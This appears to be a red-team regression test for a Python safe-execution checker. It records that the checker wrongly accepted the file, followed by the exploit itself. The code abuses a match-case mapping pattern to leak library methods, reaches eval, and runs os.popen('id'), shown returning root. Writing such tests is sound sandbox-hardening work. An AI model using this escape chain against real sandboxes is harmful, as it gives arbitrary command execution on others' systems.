# expect: reject match
# line: 30
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# why: fourteenth red team (round 14a), family A: a dotted value pattern or mapping-pattern key whose root is no import (a star-imported name, a program subclass of a library class, cls, an alias, a for target) hands a library method, class or container to the subject's __eq__ or get (the red team's program)
# Mechanism: as ok_12, with the root k a for target over a tuple of library classes ('for k in 
# (collections.Counter, collections.UserList)', an allowed place: 'k is followed'): 'case {k.copy: 
# _}' hands Counter.copy as a plain function to the subject's get().
# Goal reached: the builtin type by value (Counter.copy(P)), then eval by value (the 11b end gadget), 
# called: runs id.
# Checker: build/safe-exec-check --rules rules FILE exits 0 (accepted) at HEAD dc5a2f6
# No dunder name is given to a builtin at run time.
# Output seen under python3 (3.11), run in a fresh temp dir:
#   by value: <class 'type'>
#   by value: <built-in function eval>
#   uid=0(root) gid=0(root) groups=0(root)
import collections
import copy
import typing

class P:
    pass

class Grab(dict):
    def get(self, key, d=None):
        raise LookupError(key)

for k in (collections.Counter, collections.UserList):
    try:
        match Grab(a=1):
            case {k.copy: _}:
                pass
    except Exception as e:
        f = e.args[0]
    print("by value:", f)
    T = f(P)
    print("by value:", T)
    ev = copy.deepcopy(T(typing.List[int])(int, ("eval",), name="__builtins__"))
    print("by value:", ev)
    print(ev("__import__('os').popen('id').read()"), end="")
    break
